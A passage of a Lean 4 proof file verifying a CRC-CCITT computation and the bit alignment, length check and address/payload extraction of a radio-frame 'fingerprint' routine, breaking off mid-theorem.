  rw [crcSpecBit_eq_shift, crcSpecBit_eq_shift, Nat.xor_assoc, crcShift_xor]

theorem crcLoop_xor (k : Nat) : ∀ x y : Nat, crcLoop k (x ^^^ y) = crcLoop k x ^^^ crcLoop k y := by
  induction k with
  | zero => intro x y; rfl
  | succ k ih => intro x y; simp only [crcLoop]; rw [crcShift_xor, ih]

theorem crcLoop_lt (k : Nat) : ∀ x : Nat, x < 65536 → crcLoop k x < 65536 := by
  induction k with
  | zero => intro x hx; exact hx
  | succ k ih => intro x _; simp only [crcLoop]; exact ih _ (crcShift_lt _)

theorem crcUpdate_eq (crc byte bits : Nat) :
    crcUpdate crc byte bits = crcLoop bits ((crc ^^^ (byte <<< 8)) % 65536) := by
  unfold crcUpdate
  have h := crcLoop_lt bits _ (Nat.mod_lt (crc ^^^ (byte <<< 8)) (by norm_num : 65536 > 0))
  have h2 := Nat.and_pow_two_sub_one_of_lt_two_pow (n := 16) (x := crcLoop bits ((crc ^^^ (byte <<< 8)) % 65536)) (by simpa using h)
  simpa using h2

theorem crcUpdate_lt (crc byte bits : Nat) : crcUpdate crc byte bits < 65536 := by
  rw [crcUpdate_eq]; exact crcLoop_lt _ _ (Nat.mod_lt _ (by norm_num))

theorem crcLoop_succ_last (k : Nat) : ∀ x : Nat, crcLoop (k + 1) x = crcShift (crcLoop k x) := by
  induction k with
  | zero => intro x; rfl
  | succ k ih => intro x; rw [crcLoop, ih (crcShift x)]; rfl

theorem crcSpecByte_xor (c d byte : Nat) (n : Nat) :
    crcSpecByte (c ^^^ d) byte n = crcLoop n c ^^^ crcSpecByte d byte n := by
  induction n with
  | zero => rfl
  | succ n ih => rw [crcSpecByte, ih, crcSpecBit_xor, crcLoop_succ_last]; rfl

theorem crcLoop_byte_zero : ∀ byte < 256, crcLoop 8 (byte <<< 8) = crcSpecByte 0 byte 8 := by
  decide

theorem byte_shift_lt (byte : Nat) (h : byte < 256) : byte <<< 8 < 65536 := by
  rw [Nat.shiftLeft_eq]; omega

/-- Eight iterations of the loop of `crcUpdate` feed the eight bits of the byte. -/
theorem crcUpdate_byte (c byte : Nat) (hc : c < 65536) (hb : byte < 256) :
    crcUpdate c byte 8 = crcSpecByte c byte 8 := by
  have hx : c ^^^ (byte <<< 8) < 2 ^ 16 :=
    Nat.xor_lt_two_pow (by simpa using hc) (by simpa using byte_shift_lt byte hb)
  rw [crcUpdate_eq, Nat.mod_eq_of_lt (by simpa using hx), crcLoop_xor, crcLoop_byte_zero byte hb]
  have := crcSpecByte_xor c 0 byte 8
  rw [Nat.xor_zero] at this
  exact this.symm

/-! ## Bits of a buffer -/

theorem bitAt_mul (buf : List Nat) (m i : Nat) (h : i < 8) :
    bitAt buf (8 * m + i) = (buf.getD m 0).testBit (7 - i) := by
  unfold bitAt
  have h1 : (8 * m + i) / 8 = m := by omega
  have h2 : (8 * m + i) % 8 = i := by omega
  rw [h1, h2]

theorem bitsValue_byte (buf : List Nat) (m j : Nat) :
    ∀ len : Nat, j + len ≤ 8 → bitsValue buf (8 * m + j) len = byteBitsValue (buf.getD m 0) j len := by
  intro len
  induction len with
  | zero => intro _; rfl
  | succ len ih =>
    intro h
    rw [bitsValue, byteBitsValue, ih (by omega), Nat.add_assoc, bitAt_mul buf m (j + len) (by omega)]

theorem bitsValue_append (buf : List Nat) (start l1 : Nat) :
    ∀ l2 : Nat, bitsValue buf start (l1 + l2) =
      bitsValue buf start l1 * 2 ^ l2 + bitsValue buf (start + l1) l2 := by
  intro l2
  induction l2 with
  | zero => simp [bitsValue]
  | succ l2 ih =>
    rw [← Nat.add_assoc, bitsValue, ih, bitsValue, Nat.add_assoc start l1 l2, pow_succ]
    ring

theorem byteBitsValue_low7 : ∀ x < 256, byteBitsValue x 1 7 = x % 128 := by decide

theorem byteBitsValue_all : ∀ x < 256, byteBitsValue x 0 8 = x := by decide

theorem byteBitsValue_top : ∀ x < 256, byteBitsValue x 0 1 = x / 128 := by decide

theorem crcSpecBits_lt (seed : Nat) (buf : List Nat) (hs : seed < 65536) :
    ∀ n : Nat, crcSpecBits seed buf n < 65536 := by
  intro n
  cases n with
  | zero => exact hs
  | succ n => exact crcSpecBit_lt _ _

theorem crcSpecBits_byte (seed : Nat) (buf : List Nat) (m : Nat) :
    ∀ n : Nat, n ≤ 8 →
      crcSpecBits seed buf (8 * m + n) = crcSpecByte (crcSpecBits seed buf (8 * m)) (buf.getD m 0) n := by
  intro n
  induction n with
  | zero => intro _; rfl
  | succ n ih =>
    intro h
    rw [← Nat.add_assoc, crcSpecBits, crcSpecByte, ih (by omega), bitAt_mul buf m n (by omega)]

/-- The loop of lines 263-266 computes the bit-serial CRC of the first `8 n` bits. -/
theorem crc_fold_eq_bits (seed : Nat) (buf : List Nat) (hs : seed < 65536)
    (hb : ∀ i, buf.getD i 0 < 256) :
    ∀ n : Nat, (List.range n).foldl (fun crc x => crcUpdate crc (buf.getD x 0) 8) seed =
      crcSpecBits seed buf (8 * n) := by
  intro n
  induction n with
  | zero => rfl
  | succ n ih =>
    rw [List.range_succ, List.foldl_append, ih]
    simp only [List.foldl_cons, List.foldl_nil]
    rw [crcUpdate_byte _ _ (crcSpecBits_lt seed buf hs _) (hb n)]
    have := crcSpecBits_byte seed buf n 8 (le_refl 8)
    rw [← this, Nat.mul_succ]

theorem and_80_eq (x : Nat) : x &&& 0x80 = (x.testBit 7).toNat * 128 := by
  have h := Nat.and_two_pow x 7
  norm_num at h
  exact h

/-- The call of line 267 feeds the top bit of the byte. -/
theorem crcUpdate_top_bit (c x : Nat) (hc : c < 65536) :
    crcUpdate c (x &&& 0x80) 1 = crcSpecBit c (x.testBit 7) := by
  rw [crcUpdate_eq, crcSpecBit_eq_shift, and_80_eq, Nat.shiftLeft_eq]
  have e : (x.testBit 7).toNat * 128 * 2 ^ 8 = (x.testBit 7).toNat * 32768 := by ring
  rw [e]
  have hlt : c ^^^ ((x.testBit 7).toNat * 32768) < 2 ^ 16 := by
    apply Nat.xor_lt_two_pow (by simpa using hc)
    cases x.testBit 7 <;> simp
  rw [Nat.mod_eq_of_lt (by simpa using hlt)]
  rfl

theorem crcCalcRaw_eq_bits (buf : List Nat) (L : Nat) (hb : ∀ i, buf.getD i 0 < 256) :
    crcCalcRaw buf L = crcSpecBits 0xFFFF buf (49 + 8 * L) := by
  unfold crcCalcRaw
  simp only
  rw [crc_fold_eq_bits 0xFFFF buf (by norm_num) hb,
    crcUpdate_top_bit _ _ (crcSpecBits_lt _ buf (by norm_num) _)]
  have e : 49 + 8 * L = 8 * (6 + L) + 1 := by ring
  have hbit := bitAt_mul buf (6 + L) 0 (by norm_num)
  rw [Nat.add_zero] at hbit
  rw [e, crcSpecBits, hbit]

/-! ## The byte swap and the extracted CRC -/

theorem shl_or_shr_8 (x : Nat) (hx : x < 65536) :
    (x <<< 8) ||| (x >>> 8) = 256 * x + x / 256 := by
  have h1 : x >>> 8 = x / 256 := by rw [Nat.shiftRight_eq_div_pow]
  have h2 : x <<< 8 = 2 ^ 8 * x := by rw [Nat.shiftLeft_eq]; ring
  have h3 : x / 256 < 2 ^ 8 := by norm_num; omega
  rw [h1, h2, ← Nat.mul_add_lt_is_or h3]

theorem or_0x100 (g : Nat) (h : g % 512 < 256) : g ||| 0x100 = g + 256 := by
  have hlo : g % 512 % 256 = g % 512 := Nat.mod_eq_of_lt h
  have e1 : g = 2 ^ 9 * (g / 512) + (g % 512) := by norm_num; omega
  have h9 : g % 512 < 2 ^ 9 := by norm_num; omega
  have h8 : g % 512 < 2 ^ 8 := by norm_num; omega
  have e2 : 2 ^ 9 * (g / 512) + (g % 512) = 2 ^ 9 * (g / 512) ||| (g % 512) :=
    Nat.mul_add_lt_is_or h9 _
  have e3 : 2 ^ 8 * 1 + g % 512 = 2 ^ 8 * 1 ||| (g % 512) := Nat.mul_add_lt_is_or h8 _
  have h9' : 2 ^ 8 * 1 + g % 512 < 2 ^ 9 := by norm_num; omega
  have e4 : 2 ^ 9 * (g / 512) + (2 ^ 8 * 1 + g % 512) = 2 ^ 9 * (g / 512) ||| (2 ^ 8 * 1 + g % 512) :=
    Nat.mul_add_lt_is_or h9' _
  have e5 : g ||| 0x100 = 2 ^ 9 * (g / 512) ||| (2 ^ 8 * 1 ||| (g % 512)) := by
    conv_lhs => rw [e1, e2]
    rw [Nat.or_assoc, Nat.or_comm (g % 512)]
    norm_num
  rw [e5, ← e3, ← e4]
  norm_num
  omega

/-- The 16-bit byte swap `(v << 8) | (v >> 8)` truncated to 16 bits. -/
theorem swap16_eq (x : Nat) (hx : x < 65536) :
    ((x <<< 8) ||| (x >>> 8)) % 65536 = (x % 256) * 256 + x / 256 := by
  rw [shl_or_shr_8 x hx]; omega

theorem and_80_ne_zero (c : Nat) (hc : c < 256) : c &&& 0x80 ≠ 0 ↔ 128 ≤ c := by
  rw [and_80_eq]
  have h := @Nat.testBit_to_div_mod 7 c
  norm_num at h
  cases hb : c.testBit 7 <;> simp [hb] at h ⊢ <;> omega

/-- Arithmetic of lines 258-261 on the three bytes read. -/
theorem crcGiven_arith (a b c : Nat) (hb : b < 256) (hc : c < 256) :
    (if c &&& 0x80 ≠ 0 then
        ((((((a <<< 9) ||| (b <<< 1)) % 65536) <<< 8) |||
          ((((a <<< 9) ||| (b <<< 1)) % 65536) >>> 8)) % 65536) ||| 0x0100
      else (((((a <<< 9) ||| (b <<< 1)) % 65536) <<< 8) |||
          ((((a <<< 9) ||| (b <<< 1)) % 65536) >>> 8)) % 65536) =
      (((a % 128) * 512 + 2 * b + c / 128) % 256) * 256 +
        ((a % 128) * 512 + 2 * b + c / 128) / 256 := by
  have h1 : b <<< 1 = 2 * b := by rw [Nat.shiftLeft_eq]; ring
  have h2 : a <<< 9 = 2 ^ 9 * a := by rw [Nat.shiftLeft_eq]; ring
  have h3 : 2 * b < 2 ^ 9 := by norm_num; omega
  rw [h1, h2, ← Nat.mul_add_lt_is_or h3]
  have hA : (2 ^ 9 * a + 2 * b) % 65536 = 512 * (a % 128) + 2 * b := by norm_num; omega
  have hg0 : 512 * (a % 128) + 2 * b < 65536 := by omega
  have hB : (512 * (a % 128) + 2 * b) % 256 = 2 * (b % 128) := by omega
  have hC : (512 * (a % 128) + 2 * b) / 256 = 2 * (a % 128) + b / 128 := by omega
  have hD : (a % 128 * 512 + 2 * b + c / 128) % 256 = 2 * (b % 128) + c / 128 := by omega
  have hE : (a % 128 * 512 + 2 * b + c / 128) / 256 = 2 * (a % 128) + b / 128 := by omega
  have hS : ∀ p q : Nat, q < 256 → (2 * p * 256 + q) % 512 < 256 := by
    intro p q hq; omega
  have hq : 2 * (a % 128) + b / 128 < 256 := by omega
  have hc1 : 128 ≤ c → c / 128 = 1 := by intro h; omega
  have hc0 : ¬ 128 ≤ c → c / 128 = 0 := by intro h; omega
  rw [hA, swap16_eq _ hg0, hB, hC, hD, hE]
  by_cases h128 : 128 ≤ c
  · rw [if_pos ((and_80_ne_zero _ hc).2 h128), or_0x100 _ (hS _ _ hq), hc1 h128]
    ring
  · rw [if_neg (fun h => h128 ((and_80_ne_zero _ hc).1 h)), hc0 h128]
    ring

/-- The 16 bits that follow the first `49 + 8 L` bits, in terms of the three bytes
that hold them. -/
theorem bitsValue_crc_field (buf : List Nat) (L : Nat) (hb : ∀ i, buf.getD i 0 < 256) :
    bitsValue buf (49 + 8 * L) 16 =
      (buf.getD (6 + L) 0 % 128) * 512 + 2 * buf.getD (7 + L) 0 + buf.getD (8 + L) 0 / 128 := by
  have e1 : 49 + 8 * L = 8 * (6 + L) + 1 := by ring
  have e2 : 8 * (6 + L) + 1 + 7 = 8 * (7 + L) + 0 := by ring
  have e3 : 8 * (7 + L) + 0 + 8 = 8 * (8 + L) + 0 := by ring
  rw [e1, show (16 : Nat) = 7 + (8 + 1) from rfl, bitsValue_append, bitsValue_append, e2, e3,
    bitsValue_byte buf (6 + L) 1 7 (by norm_num), bitsValue_byte buf (7 + L) 0 8 (by norm_num),
    bitsValue_byte buf (8 + L) 0 1 (by norm_num),
    byteBitsValue_low7 _ (hb _), byteBitsValue_all _ (hb _), byteBitsValue_top _ (hb _)]
  ring

/-- The extracted CRC is the byte swap of the 16 bits that follow the covered span. -/
theorem crcGiven_eq (buf : List Nat) (L : Nat) (hb : ∀ i, buf.getD i 0 < 256) :
    crcGiven buf L =
      (bitsValue buf (49 + 8 * L) 16 % 256) * 256 + bitsValue buf (49 + 8 * L) 16 / 256 := by
  rw [bitsValue_crc_field buf L hb]
  unfold crcGiven
  exact crcGiven_arith _ _ _ (hb _) (hb _)

theorem crcCalc_eq (buf : List Nat) (L : Nat) :
    crcCalc buf L = (crcCalcRaw buf L % 256) * 256 + crcCalcRaw buf L / 256 := by
  unfold crcCalc
  simp only
  exact swap16_eq _ (crcUpdate_lt _ _ _)

theorem crcCalcRaw_lt (buf : List Nat) (L : Nat) : crcCalcRaw buf L < 65536 := crcUpdate_lt _ _ _

theorem bitsValue_lt (buf : List Nat) (start : Nat) : ∀ len, bitsValue buf start len < 2 ^ len := by
  intro len
  induction len with
  | zero => simp [bitsValue]
  | succ len ih =>
    rw [bitsValue, pow_succ]
    cases bitAt buf (start + len) <;> simp <;> omega

/-- The byte swaps applied to both values do not change the outcome of the comparison. -/
theorem crc_compare_iff (buf : List Nat) (L : Nat) (hb : ∀ i, buf.getD i 0 < 256) :
    crcCalc buf L = crcGiven buf L ↔
      bitsValue buf (49 + 8 * L) 16 = crcSpecBits 0xFFFF buf (49 + 8 * L) := by
  rw [crcCalc_eq, crcGiven_eq buf L hb, ← crcCalcRaw_eq_bits buf L hb]
  have h1 := crcCalcRaw_lt buf L
  have h2 := bitsValue_lt buf (49 + 8 * L) 16
  norm_num at h2
  omega

/-! ## The aligned buffer -/

theorem getD_set_eq (l : List Nat) (n v i : Nat) :
    (l.set n v).getD i 0 = if i = n ∧ n < l.length then v else l.getD i 0 := by
  simp only [List.getD_eq_getElem?_getD, List.getElem?_set]
  by_cases h : n = i
  · subst h
    by_cases h2 : n < l.length
    · simp [h2]
    · simp [h2, List.getElem?_eq_none (Nat.le_of_not_lt h2)]
  · have h' : ¬ i = n := fun e => h e.symm
    simp [h, h']

theorem shiftRightLoop_length : ∀ (n : Nat) (buf : List Nat), (shiftRightLoop buf n).length = buf.length := by
  intro n
  induction n with
  | zero => intro buf; rfl
  | succ n ih =>
    intro buf
    rw [shiftRightLoop]
    split <;> rw [ih, List.length_set]

/-- Byte `i` of the buffer rebuilt by the second pass, in terms of the copy it started from. -/
theorem shiftRightLoop_getD : ∀ (n : Nat) (buf : List Nat) (i : Nat), n ≤ buf.length →
    (shiftRightLoop buf n).getD i 0 =
      if i < n then
        (if i > 0 then ((buf.getD (i - 1) 0 <<< 7) ||| (buf.getD i 0 >>> 1)) % 256
         else (buf.getD i 0 >>> 1) % 256)
      else buf.getD i 0 := by
  intro n
  induction n with
  | zero => intro buf i _; simp [shiftRightLoop]
  | succ n ih =>
    intro buf i hn
    rw [shiftRightLoop]
    by_cases h0 : n > 0
    · rw [if_pos h0, ih _ i (by rw [List.length_set]; omega)]
      by_cases hi : i < n
      · have h1 : ¬ (i = n ∧ n < buf.length) := by omega
        have h2 : ¬ (i - 1 = n ∧ n < buf.length) := by omega
        rw [if_pos hi, if_pos (by omega : i < n + 1), getD_set_eq, getD_set_eq, if_neg h1, if_neg h2]
      · rw [if_neg hi, getD_set_eq]
        by_cases hin : i = n
        · subst hin
          rw [if_pos ⟨rfl, by omega⟩, if_pos (by omega : i < i + 1), if_pos h0]
        · rw [if_neg (by omega), if_neg (by omega : ¬ i < n + 1)]
    · have hn0 : n = 0 := by omega
      subst hn0
      rw [if_neg h0]
      simp only [shiftRightLoop]
      rw [getD_set_eq]
      by_cases hi : i = 0
      · subst hi
        rw [if_pos ⟨rfl, by omega⟩, if_pos (by omega), if_neg (by omega)]
      · rw [if_neg (by omega), if_neg (by omega)]

theorem getD_lt_of_forall (l : List Nat) (h : ∀ b ∈ l, b < 256) (i : Nat) : l.getD i 0 < 256 := by
  by_cases hi : i < l.length
  · rw [List.getD_eq_getElem l 0 hi]
    exact h _ (List.getElem_mem hi)
  · rw [List.getD_eq_default l 0 (by omega)]
    norm_num

theorem take_getD_lt (rawBuf : List Nat) (h : ∀ b ∈ rawBuf, b < 256) (n i : Nat) :
    (rawBuf.take n).getD i 0 < 256 :=
  getD_lt_of_forall _ (fun b hb => h b (List.mem_of_mem_take hb)) i

theorem set_getD_lt (l : List Nat) (h : ∀ i, l.getD i 0 < 256) (n v : Nat) (hv : v < 256) (i : Nat) :
    (l.set n v).getD i 0 < 256 := by
  rw [getD_set_eq]
  split
  · exact hv
  · exact h i

theorem shiftRightLoop_lt : ∀ (n : Nat) (buf : List Nat), (∀ i, buf.getD i 0 < 256) →
    ∀ i, (shiftRightLoop buf n).getD i 0 < 256 := by
  intro n
  induction n with
  | zero => intro buf h i; exact h i
  | succ n ih =>
    intro buf h i
    rw [shiftRightLoop]
    split
    · exact ih _ (set_getD_lt buf h _ _ (Nat.mod_lt _ (by norm_num))) i
    · exact ih _ (set_getD_lt buf h _ _ (Nat.mod_lt _ (by norm_num))) i

/-- Every byte of the aligned buffer is a byte. -/
theorem alignedBuf_lt (rawBuf : List Nat) (h : ∀ b ∈ rawBuf, b < 256) (n offset i : Nat) :
    (alignedBuf rawBuf n offset).getD i 0 < 256 := by
  unfold alignedBuf
  simp only
  split
  · exact shiftRightLoop_lt n _ (take_getD_lt rawBuf h n) i
  · exact take_getD_lt rawBuf h n i

theorem isSome_fingerprintTrial (buf : List Nat) (size : Nat) :
    (fingerprintTrial buf size).isSome ↔
      (¬ (buf.getD 5 0 >>> 2 = 0 ∨ ((buf.getD 5 0 >>> 2 : Nat) : Int) > (size : Int) - 9)) ∧
        crcCalc buf (buf.getD 5 0 >>> 2) = crcGiven buf (buf.getD 5 0 >>> 2) := by
  unfold fingerprintTrial
  simp only
  by_cases h1 : (buf.getD 5 0 >>> 2 = 0 ∨ ((buf.getD 5 0 >>> 2 : Nat) : Int) > (size : Int) - 9)
  · rw [if_pos h1]
    exact ⟨fun h => Bool.noConfusion h, fun h => absurd h1 h.1⟩
  · rw [if_neg h1]
    by_cases h2 : crcCalc buf (buf.getD 5 0 >>> 2) = crcGiven buf (buf.getD 5 0 >>> 2)
    · rw [if_neg (not_not.2 h2)]
      exact ⟨fun _ => ⟨h1, h2⟩, fun _ => rfl⟩
    · rw [if_pos h2]
      exact ⟨fun h => Bool.noConfusion h, fun h => absurd h.2 h2⟩

/-- One alignment trial on a buffer of bytes validates exactly when the length field is in
range and the 16 bits after the covered span are the CRC-CCITT of that span. -/
theorem fingerprintTrial_isSome_iff (buf : List Nat) (n : Nat) (hb : ∀ i, buf.getD i 0 < 256)
    (hn : 10 ≤ n) :
    (fingerprintTrial buf n).isSome ↔
      (1 ≤ buf.getD 5 0 >>> 2 ∧ buf.getD 5 0 >>> 2 ≤ n - 9 ∧
        bitsValue buf (49 + 8 * (buf.getD 5 0 >>> 2)) 16 =
          crcSpecBits 0xFFFF buf (49 + 8 * (buf.getD 5 0 >>> 2))) := by
  rw [isSome_fingerprintTrial, crc_compare_iff buf _ hb]
  constructor
  · rintro ⟨h1, h2⟩
    refine ⟨?_, ?_, h2⟩ <;> omega
  · rintro ⟨h1, h2, h3⟩
    refine ⟨?_, h3⟩
    omega

theorem fingerprintFrame_small (rawBuf : List Nat) (n : Nat) (h : n < 10) :
    fingerprintFrame rawBuf n = none := by
  unfold fingerprintFrame
  rw [if_pos h]

theorem fingerprintFrame_eq (rawBuf : List Nat) (n : Nat) (h1 : 10 ≤ n) (h2 : n ≤ 37) :
    fingerprintFrame rawBuf n =
      match fingerprintTrial (alignedBuf rawBuf n 0) n with
      | some r => some r
      | none => fingerprintTrial (alignedBuf rawBuf n 1) n := by
  unfold fingerprintFrame
  rw [if_neg (by omega)]
  simp only
  rw [if_neg (by omega)]
  simp only [fingerprintOffsets]
  cases fingerprintTrial (alignedBuf rawBuf n 0) n with
  | some r => rfl
  | none =>
    simp only
    cases fingerprintTrial (alignedBuf rawBuf n 1) n <;> rfl

/-- C1. For a capture of `n` bytes, `10 ≤ n ≤ 37`, `fingerprint` tries the capture as
received (offset 0) and shifted right by one bit (offset 1), in that order; with
`L = buf[5] >> 2` read from the aligned buffer, a trial validates if and only if
`1 ≤ L ≤ n - 9` and the 16 bits that follow the first `49 + 8 L` bits of the aligned
buffer are the CRC-CCITT (seed 0xFFFF) of those first `49 + 8 L` bits: the byte swaps
applied to both sides do not change the outcome. A capture of fewer than 10 bytes
never validates. -/
theorem fingerprint_trial_validates_iff (rawBuf : List Nat) (n : Nat)
    (hbytes : ∀ b ∈ rawBuf, b < 256) :
    (n < 10 → fingerprintFrame rawBuf n = none) ∧
    (10 ≤ n → n ≤ 37 →
      (fingerprintFrame rawBuf n =
        match fingerprintTrial (alignedBuf rawBuf n 0) n with
        | some r => some r
        | none => fingerprintTrial (alignedBuf rawBuf n 1) n) ∧
      ∀ offset : Nat, offset = 0 ∨ offset = 1 →
        ((fingerprintTrial (alignedBuf rawBuf n offset) n).isSome ↔
          (1 ≤ (alignedBuf rawBuf n offset).getD 5 0 >>> 2 ∧
            (alignedBuf rawBuf n offset).getD 5 0 >>> 2 ≤ n - 9 ∧
            bitsValue (alignedBuf rawBuf n offset)
                (49 + 8 * ((alignedBuf rawBuf n offset).getD 5 0 >>> 2)) 16 =
              crcSpecBits 0xFFFF (alignedBuf rawBuf n offset)
                (49 + 8 * ((alignedBuf rawBuf n offset).getD 5 0 >>> 2))))) := by
  refine ⟨fingerprintFrame_small rawBuf n, fun h1 h2 => ⟨fingerprintFrame_eq rawBuf n h1 h2, ?_⟩⟩
  intro offset _
  exact fingerprintTrial_isSome_iff _ n (alignedBuf_lt rawBuf hbytes n offset) h1

theorem fingerprint_trial_validates_iff_witness :
    (∀ b ∈ [18, 52, 86, 120, 154, 4, 85, 233, 22, 0], b < 256) ∧ 10 ≤ 10 ∧ 10 ≤ 37 ∧
    ((fingerprintTrial (alignedBuf [18, 52, 86, 120, 154, 4, 85, 233, 22, 0] 10 0) 10).isSome ↔
      (1 ≤ (alignedBuf [18, 52, 86, 120, 154, 4, 85, 233, 22, 0] 10 0).getD 5 0 >>> 2 ∧
        (alignedBuf [18, 52, 86, 120, 154, 4, 85, 233, 22, 0] 10 0).getD 5 0 >>> 2 ≤ 10 - 9 ∧
        bitsValue (alignedBuf [18, 52, 86, 120, 154, 4, 85, 233, 22, 0] 10 0)
            (49 + 8 * ((alignedBuf [18, 52, 86, 120, 154, 4, 85, 233, 22, 0] 10 0).getD 5 0 >>> 2)) 16 =
          crcSpecBits 0xFFFF (alignedBuf [18, 52, 86, 120, 154, 4, 85, 233, 22, 0] 10 0)
            (49 + 8 * ((alignedBuf [18, 52, 86, 120, 154, 4, 85, 233, 22, 0] 10 0).getD 5 0 >>> 2)))) ∧
    (fingerprintTrial (alignedBuf [18, 52, 86, 120, 154, 4, 85, 233, 22, 0] 10 0) 10).isSome = true :=
  ⟨by decide, by decide, by decide,
    ((fingerprint_trial_validates_iff [18, 52, 86, 120, 154, 4, 85, 233, 22, 0] 10 (by decide)).2
      (by decide) (by decide)).2 0 (Or.inl rfl),
    by decide⟩

/-! ## The address and payload handed to the classifier -/

theorem and_0xFF (x : Nat) : x &&& 0xFF = x % 256 := by
  have h := Nat.and_pow_two_sub_one_eq_mod x 8
  norm_num at h
  exact h

/-- The payload byte expression of line 281 is the value of eight consecutive bits. -/
theorem payload_byte_arith (a b : Nat) (hb : b < 256) :
    ((a <<< 1) &&& 0xFF) ||| (b >>> 7) = (a % 128) * 2 + b / 128 := by
  have h1 : a <<< 1 = 2 * a := by rw [Nat.shiftLeft_eq]; ring
  have h2 : b >>> 7 = b / 128 := by rw [Nat.shiftRight_eq_div_pow]
  have h3 : b / 128 < 2 ^ 1 := by norm_num; omega
  have h4 : 2 * a % 256 = 2 ^ 1 * (a % 128) := by norm_num; omega
  rw [h1, h2, and_0xFF, h4, ← Nat.mul_add_lt_is_or h3]
  ring

theorem bitsValue_payload_byte (buf : List Nat) (x : Nat) (hb : ∀ i, buf.getD i 0 < 256) :
    bitsValue buf (49 + 8 * x) 8 = (buf.getD (6 + x) 0 % 128) * 2 + buf.getD (7 + x) 0 / 128 := by
  have e1 : 49 + 8 * x = 8 * (6 + x) + 1 := by ring
  have e2 : 8 * (6 + x) + 1 + 7 = 8 * (7 + x) + 0 := by ring
  rw [e1, show (8 : Nat) = 7 + 1 from rfl, bitsValue_append, e2,
    bitsValue_byte buf (6 + x) 1 7 (by norm_num), bitsValue_byte buf (7 + x) 0 1 (by norm_num),
    byteBitsValue_low7 _ (hb _), byteBitsValue_top _ (hb _)]
  norm_num

theorem esbPayload_length (buf : List Nat) (L : Nat) : (esbPayload buf L).length = L := by
  unfold esbPayload
  rw [List.length_map, List.length_range]

theorem esbPayload_getD (buf : List Nat) (L x : Nat) (hx : x < L) :
    (esbPayload buf L).getD x 0 =
      ((buf.getD (6 + x) 0 <<< 1) &&& 0xFF) ||| (buf.getD (7 + x) 0 >>> 7) := by
  have hlen : x < (esbPayload buf L).length := by rw [esbPayload_length]; exact hx
  rw [List.getD_eq_getElem _ 0 hlen]
  unfold esbPayload
  rw [List.getElem_map, List.getElem_range]

theorem fingerprintTrial_some (buf : List Nat) (size : Nat) (addr payload : List Nat) (L : Nat)
    (h : fingerprintTrial buf size = some (addr, payload, L)) :
    L = buf.getD 5 0 >>> 2 ∧ addr = buf.take 5 ∧ payload = esbPayload buf L := by
  unfold fingerprintTrial at h
  simp only at h
  split at h
  · exact Option.noConfusion h
  · split at h
    · exact Option.noConfusion h
    · injection h with h
      injection h with h1 h2
      injection h2 with h2 h3
      subst h3
      exact ⟨rfl, h1.symm, h2.symm⟩

theorem alignedBuf_length (rawBuf : List Nat) (n offset : Nat) :
    (alignedBuf rawBuf n offset).length = min n rawBuf.length := by
  unfold alignedBuf
  simp only
  split
  · rw [shiftRightLoop_length, List.length_take]
  · rw [List.length_take]

theorem fingerprint_of_frame (k : MjConsts) (rawBuf : List Nat) (n channel : Nat) (s : State)
    (addr payload : List Nat) (L : Nat) (h : fingerprintFrame rawBuf n = some (addr, payload, L)) :
    fingerprint k rawBuf n channel s = fingerprintPayload k payload L addr channel s := by
  unfold fingerprint
  rw [h]

/-- C2. Whenever an alignment trial of `fingerprint` on a capture of `n` bytes validates
with length field `L`, the address is bytes 0..4 of the aligned buffer, the payload has
exactly `L` bytes, payload byte `x` is `((buf[6+x] << 1) & 0xFF) | (buf[7+x] >> 7)`, which
is the value of the 8 bits at positions `49+8x .. 56+8x` of the aligned buffer, and
(when that trial is the one `fingerprint` stops at) `fingerprintPayload` is called with
this payload, length, address and the channel given to `fingerprint`. -/
theorem fingerprint_trial_output (k : MjConsts) (rawBuf : List Nat) (n channel : Nat) (s : State)
    (offset : Nat) (addr payload : List Nat) (L : Nat)
    (hlen : rawBuf.length = n) (hbytes : ∀ b ∈ rawBuf, b < 256) (hn : 10 ≤ n) (hn37 : n ≤ 37)
    (hoff : offset = 0 ∨ (offset = 1 ∧ fingerprintTrial (alignedBuf rawBuf n 0) n = none))
    (h : fingerprintTrial (alignedBuf rawBuf n offset) n = some (addr, payload, L)) :
    L = (alignedBuf rawBuf n offset).getD 5 0 >>> 2 ∧
    addr = (alignedBuf rawBuf n offset).take 5 ∧ addr.length = 5 ∧
    payload.length = L ∧
    (∀ x, x < L →
      payload.getD x 0 = (((alignedBuf rawBuf n offset).getD (6 + x) 0 <<< 1) &&& 0xFF) |||
        ((alignedBuf rawBuf n offset).getD (7 + x) 0 >>> 7) ∧
      payload.getD x 0 = bitsValue (alignedBuf rawBuf n offset) (49 + 8 * x) 8) ∧
    fingerprint k rawBuf n channel s = fingerprintPayload k payload L addr channel s := by
  obtain ⟨hL, haddr, hpay⟩ := fingerprintTrial_some _ _ _ _ _ h
  have hb := alignedBuf_lt rawBuf hbytes n offset
  refine ⟨hL, haddr, ?_, ?_, ?_, ?_⟩
  · rw [haddr, List.length_take, alignedBuf_length]
    omega
  · rw [hpay, esbPayload_length]
  · intro x hx
    rw [hpay, esbPayload_getD _ _ _ hx, bitsValue_payload_byte _ _ hb, payload_byte_arith _ _ (hb _)]
    exact ⟨rfl, rfl⟩
  · apply fingerprint_of_frame
    rw [fingerprintFrame_eq rawBuf n hn hn37]
    rcases hoff with h0 | ⟨h1, hnone⟩
    · subst h0
      rw [h]
    · subst h1
      rw [hnone, h]

theorem fingerprint_trial_output_witness :
    fingerprintTrial (alignedBuf [18, 52, 86, 120, 154, 4, 85, 233, 22, 0] 10 0) 10 =
      some ([18, 52, 86, 120, 154], [171], 1) ∧
    fingerprint sampleConsts [18, 52, 86, 120, 154, 4, 85, 233, 22, 0] 10 42
        (initState sampleConsts) =
      fingerprintPayload sampleConsts [171] 1 [18, 52, 86, 120, 154] 42
        (initState sampleConsts) :=
  ⟨by decide,
    (fingerprint_trial_output sampleConsts [18, 52, 86, 120, 154, 4, 85, 233, 22, 0] 10 42
      (initState sampleConsts) 0 [18, 52, 86, 120, 154] [171] 1
      (by decide) (by decide) (by decide) (by decide) (Or.inl rfl) (by decide)).2.2.2.2.2⟩

/-! ## The CRC16 validator against the specification -/

theorem crcUpdate_eq_register (seed byte : Nat) :
    ∀ k : Nat, crcUpdate seed byte k = crcSpecRegister seed byte k := by
  intro k
  rw [crcUpdate_eq]
  induction k with
  | zero => rw [crcLoop, crcSpecRegister, Nat.shiftLeft_eq]
  | succ k ih => rw [crcLoop_succ_last, ih, crcSpecRegister, crcShift_eq_specBit]

theorem crc_foldl_suffix (seed : Nat) (hs : seed < 65536) :
    ∀ (suf pre : List Nat), (∀ b ∈ pre ++ suf, b < 256) →
